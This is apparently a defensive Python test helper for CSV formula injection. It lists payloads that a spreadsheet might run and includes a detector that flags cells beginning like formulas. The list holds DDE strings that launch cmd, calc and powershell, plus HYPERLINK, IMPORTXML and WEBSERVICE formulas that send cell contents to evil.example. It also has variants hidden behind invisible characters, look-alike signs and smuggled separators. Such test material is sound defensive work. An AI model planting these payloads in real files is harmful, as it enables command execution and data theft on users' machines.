"""Texts that a spreadsheet would run, or choke on, and how to tell that it will not."""

import csv
import io
import unicodedata

_STARTS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;2)",
    "=cmd|'/C calc'!A0",
    "=cmd|' /C powershell'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1;"open")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=";A1);"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"!A0")',
    "=1+1\r\n=2+2",
    "={1;2}",
    "==1+1",
    "=-1",
    "-2+3+cmd|' /C calc'!A0",
    "@",
    "=",
    "+",
    "-",
)
_BEFORE = (
    "\t", "\r", "\n", "\r\n", " ", "   ", "\u00a0", "\u2003", "\u3000", "\u200b", "\u200d",
    "\u2060", "\ufeff", "\u00ad", "\u200e", "\u202e", "\u2028", "\x00", "\x01", "\x0b", "\x1f",
    " \u200b\t ", "\u0301",
)  # fmt: skip
_TWINS = tuple(f"{twin}1+1" for twin in "＝＋－＠﹦﹢﹣﹫⁼⁺⁻−")
_INSIDE = (
    "narrow;=1+1",
    'narrow";=1+1;"',
    "narrow\t=1+1",
    "narrow\n=1+1",
    "narrow; @SUM(1)",
    'narrow";"=1+1',
)
PAYLOADS = (*_STARTS, *(before + "=1+1" for before in _BEFORE), *_TWINS, *_INSIDE)
assert len(set(PAYLOADS)) >= 60
# What PostgreSQL keeps of them: it takes no NUL.
STORABLE = tuple(text for text in PAYLOADS if "\x00" not in text)


def is_formula(cell: str) -> bool:
    """Whether any spreadsheet might run a cell: what one sees of it begins like a formula."""
    seen = "".join(
        c for c in cell if unicodedata.category(c)[0] not in "CZM" and not c.isspace()
    ).replace("\ufffd", "")
    return unicodedata.normalize("NFKC", seen)[:1] in {"=", "+", "-", "@", "\u2212"}


def runs_somewhere(data: bytes) -> list[str]:
    """Cells of a CSV that might run, with whichever separator an office has set."""
    text = data.decode("utf-8-sig")
    found = []
    for separator in (",", ";", "\t"):
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            found += [cell for cell in line if is_formula(cell)]
    return found
